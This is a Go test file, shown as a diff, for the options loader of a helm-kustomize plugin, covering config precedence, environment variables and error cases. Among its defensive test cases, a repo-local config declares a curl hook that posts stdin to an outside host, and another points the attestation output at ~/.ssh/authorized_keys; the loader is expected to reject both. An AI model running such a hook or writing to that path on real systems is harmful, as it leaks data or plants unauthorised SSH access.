@@ -0,0 +1,486 @@
+package options
+
+import (
+	"flag"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/owhelm/helm-kustomize/internal/hooks"
+)
+
+// isolateConfig points the config lookup at empty temporary directories
+func isolateConfig(t *testing.T) (configHome string, workDir string) {
+	t.Helper()
+	configHome = t.TempDir()
+	workDir = t.TempDir()
+	t.Setenv("HELM_CONFIG_HOME", configHome)
+	t.Chdir(workDir)
+	for _, env := range []string{EnvOverlay, EnvValidate, EnvDebug, EnvReservedFilenames, EnvImages, EnvTenantPrefix, EnvTargetKubernetes, EnvMigrateAPIs, EnvCreateNamespace, EnvFailOnNoop, EnvStrict, EnvStaleTempMaxAge, EnvSpillThreshold, EnvMaxProcs, EnvMemoryLimit, EnvIndent, EnvIndentSequences, EnvSARIF, EnvKyvernoPolicies, EnvCRDSchemas, EnvDryRunServer, EnvHelmfile, EnvSummary, EnvTrace, EnvAllowedHooks, EnvRegistryMirrors, EnvPinDigests, EnvDigestCache, EnvOffline, EnvSignature, EnvSignKey, EnvAllowedNamespaces, EnvEnableHelm, EnvAllowedChartRepos, EnvGuardClusterScoped, EnvCheckImmutable, EnvCheckRollback, EnvAllowEmptyOutput, EnvCheckCount, EnvPreserveUntouched, EnvFileConflicts, EnvWorkspaceCache, EnvBuildCache, EnvBuildCacheTTL, EnvAttestation} {
+		t.Setenv(env, "")
+		if err := os.Unsetenv(env); err != nil {
+			t.Fatalf("Failed to unset %s: %v", env, err)
+		}
+	}
+	return configHome, workDir
+}
+
+func writeConfig(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write config file: %v", err)
+	}
+}
+
+func TestLoad_Precedence(t *testing.T) {
+	configHome, workDir := isolateConfig(t)
+
+	writeConfig(t, filepath.Join(configHome, ConfigFileName), `overlay: overlays/global
+validate: warn
+debug: true
+reservedFilenames:
+- secrets.yaml
+staleTempMaxAge: 12h
+`)
+	writeConfig(t, filepath.Join(workDir, LocalConfigFileName), `overlay: overlays/local
+`)
+	t.Setenv(EnvValidate, "error")
+
+	opts, err := Load([]string{"--debug=false"})
+	if err != nil {
+		t.Fatalf("Load() error = %v, want nil", err)
+	}
+
+	want := Options{
+		Overlay:           "overlays/local",
+		Validate:          ValidationError,
+		Debug:             false,
+		ReservedFilenames: []string{"secrets.yaml"},
+		StaleTempMaxAge:   12 * time.Hour,
+		SpillThreshold:    DefaultSpillThreshold,
+	}
+	if !reflect.DeepEqual(opts, want) {
+		t.Errorf("Load() = %+v, want %+v", opts, want)
+	}
+}
+
+func TestLoad_Hooks(t *testing.T) {
+	configHome, _ := isolateConfig(t)
+	writeConfig(t, filepath.Join(configHome, ConfigFileName), `hooks:
+- command: cost-annotator
+  args: [--currency, EUR]
+- command: /usr/local/bin/sidecar-injector
+allowedHooks:
+- label-checker
+`)
+
+	opts, err := Load([]string{"--allow-hook", "policy-reporter"})
+	if err != nil {
+		t.Fatalf("Load() error = %v, want nil", err)
+	}
+
+	wantHooks := []hooks.Hook{
+		{Command: "cost-annotator", Args: []string{"--currency", "EUR"}},
+		{Command: "/usr/local/bin/sidecar-injector"},
+	}
+	if !reflect.DeepEqual(opts.Hooks, wantHooks) {
+		t.Errorf("Load() Hooks = %+v, want %+v", opts.Hooks, wantHooks)
+	}
+	// Repeatable flags add to the configured values
+	wantAllowed := []string{"label-checker", "policy-reporter"}
+	if !reflect.DeepEqual(opts.AllowedHooks, wantAllowed) {
+		t.Errorf("Load() AllowedHooks = %q, want %q", opts.AllowedHooks, wantAllowed)
+	}
+}
+
+func TestLoad_RegistryMirrors(t *testing.T) {
+	_, workDir := isolateConfig(t)
+	writeConfig(t, filepath.Join(workDir, LocalConfigFileName), `registryMirrors:
+  docker.io: mirror.internal
+  quay.io: mirror.internal/quay
+`)
+
+	opts, err := Load([]string{"--registry-mirror", "quay.io=quay.internal", "--registry-mirror", "ghcr.io=ghcr.internal"})
+	if err != nil {
+		t.Fatalf("Load() error = %v, want nil", err)
+	}
+
+	// The flag adds to the configured mirrors, replacing the mirror of the same registry
+	want := map[string]string{"docker.io": "mirror.internal", "quay.io": "quay.internal", "ghcr.io": "ghcr.internal"}
+	if !reflect.DeepEqual(opts.RegistryMirrors, want) {
+		t.Errorf("Load() RegistryMirrors = %v, want %v", opts.RegistryMirrors, want)
+	}
+}
+
+func TestLoad_Terraform(t *testing.T) {
+	configHome, workDir := isolateConfig(t)
+	writeConfig(t, filepath.Join(configHome, ConfigFileName), "overlay: overlays/global\n")
+	writeConfig(t, filepath.Join(workDir, LocalConfigFileName), "debug: true\n")
+	t.Setenv(EnvValidate, "error")
+
+	opts, err := Load([]string{"--overlay", "overlays/prod", "--terraform"})
+	if err != nil {
+		t.Fatalf("Load() error = %v, want nil", err)
+	}
+
+	want := Options{
+		Overlay:         "overlays/prod",
+		Validate:        ValidationNone,
+		Terraform:       true,
+		StaleTempMaxAge: DefaultStaleTempMaxAge,
+		SpillThreshold:  DefaultSpillThreshold,
+	}
+	if !reflect.DeepEqual(opts, want) {
+		t.Errorf("Load() = %+v, want %+v", opts, want)
+	}
+}
+
+func TestTerraformMode(t *testing.T) {
+	tests := []struct {
+		name string
+		args []string
+		want bool
+	}{
+		{name: "no arguments", want: false},
+		{name: "flag", args: []string{"--terraform"}, want: true},
+		{name: "single dash", args: []string{"-terraform"}, want: true},
+		{name: "after flag value", args: []string{"--overlay", "prod", "--terraform"}, want: true},
+		{name: "explicit true", args: []string{"--terraform=true"}, want: true},
+		{name: "explicit false", args: []string{"--terraform=false"}, want: false},
+		{name: "after terminator", args: []string{"--", "--terraform"}, want: false},
+		{name: "other flags", args: []string{"--debug", "--validate=warn"}, want: false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := terraformMode(tt.args); got != tt.want {
+				t.Errorf("terraformMode(%q) = %v, want %v", tt.args, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestLoad_NoConfig(t *testing.T) {
+	isolateConfig(t)
+
+	opts, err := Load(nil)
+	if err != nil {
+		t.Fatalf("Load() error = %v, want nil", err)
+	}
+	if !reflect.DeepEqual(opts, Default()) {
+		t.Errorf("Load() = %+v, want defaults %+v", opts, Default())
+	}
+}
+
+func TestLoad_Errors(t *testing.T) {
+	tests := []struct {
+		name string
+		// config is the repo-local config file and userConfig the user config file
+		config        string
+		userConfig    string
+		env           map[string]string
+		args          []string
+		wantErrSubstr string
+	}{
+		{
+			name:          "unknown config field",
+			config:        "overlayz: prod\n",
+			wantErrSubstr: "failed to parse config file",
+		},
+		{
+			name:          "invalid validation level in config",
+			config:        "validate: always\n",
+			wantErrSubstr: "invalid validation level",
+		},
+		{
+			name:          "invalid cluster-scoped guard level in config",
+			config:        "guardClusterScoped: deny\n",
+			wantErrSubstr: "invalid cluster-scoped guard level",
+		},
+		{
+			name:          "invalid immutable field check level in config",
+			config:        "checkImmutable: strict\n",
+			wantErrSubstr: "invalid immutable field check level",
+		},
+		{
+			name:          "invalid overlay in config",
+			config:        "overlay: /etc\n",
+			wantErrSubstr: "must be a relative path",
+		},
+		{
+			name:          "hook without command in config",
+			userConfig:    "hooks:\n- args: [--currency, EUR]\n",
+			wantErrSubstr: "hooks[0] must have a command",
+		},
+		{
+			name:          "hooks in repo-local config",
+			config:        "hooks:\n- command: curl\n  args: [-d, '@-', https://example.com]\n",
+			wantErrSubstr: "hooks can only be set in the user config file",
+		},
+		{
+			name:          "allowed hooks in repo-local config",
+			config:        "allowedHooks: [sh]\n",
+			wantErrSubstr: "allowedHooks can only be set in the user config file",
+		},
+		{
+			name:          "helm in repo-local config",
+			config:        "enableHelm: true\n",
+			wantErrSubstr: "enableHelm can only be set in the user config file",
+		},
+		{
+			name:          "chart repositories in repo-local config",
+			config:        "allowedChartRepos: [https://charts.example.com]\n",
+			wantErrSubstr: "allowedChartRepos can only be set in the user config file",
+		},
+		{
+			name:          "build cache in repo-local config",
+			config:        "buildCache: redis://cache.example.com:6379\n",
+			wantErrSubstr: "buildCache can only be set in the user config file",
+		},
+		{
+			name:          "sarif path in repo-local config",
+			config:        "sarif: results.sarif\n",
+			wantErrSubstr: "sarif can only be set in the user config file",
+		},
+		{
+			name:          "signature path in repo-local config",
+			config:        "signature: output.sig\n",
+			wantErrSubstr: "signature can only be set in the user config file",
+		},
+		{
+			name:          "attestation path in repo-local config",
+			config:        "attestation: ~/.ssh/authorized_keys\n",
+			wantErrSubstr: "attestation can only be set in the user config file",
+		},
+		{
+			name:          "digestCache path in repo-local config",
+			config:        "digestCache: digests.json\n",
+			wantErrSubstr: "digestCache can only be set in the user config file",
+		},
+		{
+			name:          "workspaceCache path in repo-local config",
+			config:        "workspaceCache: .workspaces\n",
+			wantErrSubstr: "workspaceCache can only be set in the user config file",
+		},
+		{
+			name:          "invalid debug env",
+			env:           map[string]string{EnvDebug: "maybe"},
+			wantErrSubstr: "invalid HELM_KUSTOMIZE_DEBUG",
+		},
+		{
+			name:          "invalid validate env",
+			env:           map[string]string{EnvValidate: "always"},
+			wantErrSubstr: "invalid HELM_KUSTOMIZE_VALIDATE",
+		},
+		{
+			name:          "invalid file conflicts env",
+			env:           map[string]string{EnvFileConflicts: "merge"},
+			wantErrSubstr: "invalid HELM_KUSTOMIZE_FILE_CONFLICTS",
+		},
+		{
+			name:          "invalid file conflicts in config",
+			config:        "fileConflicts: merge\n",
+			wantErrSubstr: "invalid file conflict policy",
+		},
+		{
+			name:          "invalid spill threshold env",
+			env:           map[string]string{EnvSpillThreshold: "64Mi"},
+			wantErrSubstr: "invalid HELM_KUSTOMIZE_SPILL_THRESHOLD",
+		},
+		{
+			name:          "invalid max procs env",
+			env:           map[string]string{EnvMaxProcs: "all"},
+			wantErrSubstr: "invalid HELM_KUSTOMIZE_MAX_PROCS",
+		},
+		{
+			name:          "invalid memory limit env",
+			env:           map[string]string{EnvMemoryLimit: "512Mi"},
+			wantErrSubstr: "invalid HELM_KUSTOMIZE_MEMORY_LIMIT",
+		},
+		{
+			name:          "invalid indent env",
+			env:           map[string]string{EnvIndent: "two"},
+			wantErrSubstr: "invalid HELM_KUSTOMIZE_INDENT",
+		},
+		{
+			name:          "invalid argument",
+			args:          []string{"--nope"},
+			wantErrSubstr: "flag provided but not defined",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			configHome, workDir := isolateConfig(t)
+			if tt.userConfig != "" {
+				writeConfig(t, filepath.Join(configHome, ConfigFileName), tt.userConfig)
+			}
+			if tt.config != "" {
+				writeConfig(t, filepath.Join(workDir, LocalConfigFileName), tt.config)
+			}
+			for k, v := range tt.env {
+				t.Setenv(k, v)
+			}
+
+			_, err := Load(tt.args)
+			if err == nil {
+				t.Fatal("Expected error, got nil")
+			}
+			if !strings.Contains(err.Error(), tt.wantErrSubstr) {
+				t.Errorf("Expected error containing %q, got: %v", tt.wantErrSubstr, err)
+			}
+		})
+	}
+}
+
+func TestApplyEnv(t *testing.T) {
+	isolateConfig(t)
+	t.Setenv(EnvOverlay, "overlays/ci")
+	t.Setenv(EnvDebug, "1")
+	t.Setenv(EnvReservedFilenames, "a.yaml, ,b.yaml")
+	t.Setenv(EnvImages, "nginx=:1.25,redis=mirror/redis")
+	t.Setenv(EnvTenantPrefix, "team-a-")
+	t.Setenv(EnvTargetKubernetes, "1.31")
+	t.Setenv(EnvMigrateAPIs, "true")
+	t.Setenv(EnvCreateNamespace, "true")
+	t.Setenv(EnvFailOnNoop, "true")
+	t.Setenv(EnvStrict, "true")
+	t.Setenv(EnvStaleTempMaxAge, "0")
+	t.Setenv(EnvSpillThreshold, "1048576")
+	t.Setenv(EnvMaxProcs, "2")
+	t.Setenv(EnvMemoryLimit, "536870912")
+	t.Setenv(EnvIndent, "4")
+	t.Setenv(EnvSARIF, "results.sarif")
+	t.Setenv(EnvIndentSequences, "true")
+	t.Setenv(EnvKyvernoPolicies, "policies/kyverno")
+	t.Setenv(EnvCRDSchemas, "schemas")
+	t.Setenv(EnvDryRunServer, "true")
+	t.Setenv(EnvHelmfile, "true")
+	t.Setenv(EnvSummary, "true")
+	t.Setenv(EnvTrace, "1")
+	t.Setenv(EnvAllowedHooks, "cost-annotator,sidecar-injector")
+	t.Setenv(EnvRegistryMirrors, "docker.io=mirror.internal,quay.io=mirror.internal/quay")
+	t.Setenv(EnvPinDigests, "true")
+	t.Setenv(EnvDigestCache, "/var/cache/digests.json")
+	t.Setenv(EnvOffline, "1")
+	t.Setenv(EnvSignature, "output.sig")
+	t.Setenv(EnvSignKey, "env://SIGNING_KEY")
+	t.Setenv(EnvAllowedNamespaces, "team-a,team-b-*")
+	t.Setenv(EnvEnableHelm, "true")
+	t.Setenv(EnvAllowedChartRepos, "https://helm.datadoghq.com,oci://registry.internal/charts")
+	t.Setenv(EnvGuardClusterScoped, "warn")
+	t.Setenv(EnvCheckImmutable, "error")
+	t.Setenv(EnvCheckRollback, "true")
+	t.Setenv(EnvAllowEmptyOutput, "true")
+	t.Setenv(EnvCheckCount, "1")
+	t.Setenv(EnvPreserveUntouched, "true")
+	t.Setenv(EnvFileConflicts, "last-wins")
+	t.Setenv(EnvWorkspaceCache, "/var/cache/workspaces")
+	t.Setenv(EnvBuildCache, "redis://cache:6379")
+	t.Setenv(EnvBuildCacheTTL, "72h")
+
+	opts := Default()
+	if err := opts.ApplyEnv(); err != nil {
+		t.Fatalf("ApplyEnv() error = %v, want nil", err)
+	}
+
+	want := Options{
+		Overlay:            "overlays/ci",
+		Validate:           ValidationNone,
+		Debug:              true,
+		ReservedFilenames:  []string{"a.yaml", "b.yaml"},
+		Images:             []string{"nginx=:1.25", "redis=mirror/redis"},
+		TenantPrefix:       "team-a-",
+		TargetKubernetes:   "1.31",
+		MigrateAPIs:        true,
+		CreateNamespace:    true,
+		FailOnNoop:         true,
+		Strict:             true,
+		SpillThreshold:     1 << 20,
+		MaxProcs:           2,
+		MemoryLimit:        512 << 20,
+		Indent:             4,
+		IndentSequences:    true,
+		SARIF:              "results.sarif",
+		KyvernoPolicies:    "policies/kyverno",
+		CRDSchemas:         "schemas",
+		DryRunServer:       true,
+		Helmfile:           true,
+		Summary:            true,
+		Trace:              true,
+		AllowedHooks:       []string{"cost-annotator", "sidecar-injector"},
+		RegistryMirrors:    map[string]string{"docker.io": "mirror.internal", "quay.io": "mirror.internal/quay"},
+		PinDigests:         true,
+		DigestCache:        "/var/cache/digests.json",
+		Offline:            true,
+		Signature:          "output.sig",
+		SignKey:            "env://SIGNING_KEY",
+		AllowedNamespaces:  []string{"team-a", "team-b-*"},
+		EnableHelm:         true,
+		AllowedChartRepos:  []string{"https://helm.datadoghq.com", "oci://registry.internal/charts"},
+		GuardClusterScoped: ValidationWarn,
+		CheckImmutable:     ValidationError,
+		CheckRollback:      true,
+		AllowEmptyOutput:   true,
+		CheckCount:         true,
+		PreserveUntouched:  true,
+		FileConflicts:      FileConflictsLastWins,
+		WorkspaceCache:     "/var/cache/workspaces",
+		BuildCache:         "redis://cache:6379",
+		BuildCacheTTL:      72 * time.Hour,
+	}
+	if !reflect.DeepEqual(opts, want) {
+		t.Errorf("ApplyEnv() = %+v, want %+v", opts, want)
+	}
+}
+
+func TestApplyEnv_Attestation(t *testing.T) {
+	// TestApplyEnv enables preserveUntouched, which attestations cannot be combined with
+	isolateConfig(t)
+	t.Setenv(EnvAttestation, "inputs.json")
+
+	opts := Default()
+	if err := opts.ApplyEnv(); err != nil {
+		t.Fatalf("ApplyEnv() error = %v, want nil", err)
+	}
+	if opts.Attestation != "inputs.json" {
+		t.Errorf("ApplyEnv() Attestation = %q, want %q", opts.Attestation, "inputs.json")
+	}
+
+	t.Setenv(EnvPreserveUntouched, "true")
+	opts = Default()
+	if err := opts.ApplyEnv(); err == nil || !strings.Contains(err.Error(), "an attestation cannot be combined") {
+		t.Errorf("ApplyEnv() error = %v, want error containing %q", err, "an attestation cannot be combined")
+	}
+}
+
+func TestLoadFile_Unreadable(t *testing.T) {
+	opts := Default()
+	// A directory cannot be read as a file
+	err := opts.LoadFile(t.TempDir())
+	if err == nil || !strings.Contains(err.Error(), "failed to read config file") {
+		t.Errorf("Expected read error, got: %v", err)
+	}
+}
+
+func TestLoadWithFlags(t *testing.T) {
+	isolateConfig(t)
+
+	var kubeconfig string
+	opts, err := LoadWithFlags([]string{"--kubeconfig", "/tmp/config", "--debug"}, func(fs *flag.FlagSet) {
+		fs.StringVar(&kubeconfig, "kubeconfig", "", "")
+	})
+	if err != nil {
+		t.Fatalf("LoadWithFlags() error = %v, want nil", err)
+	}
+
+	if kubeconfig != "/tmp/config" {
+		t.Errorf("kubeconfig = %q, want %q", kubeconfig, "/tmp/config")
+	}
+	if !opts.Debug {
+		t.Error("Expected Debug to be set")
+	}
+}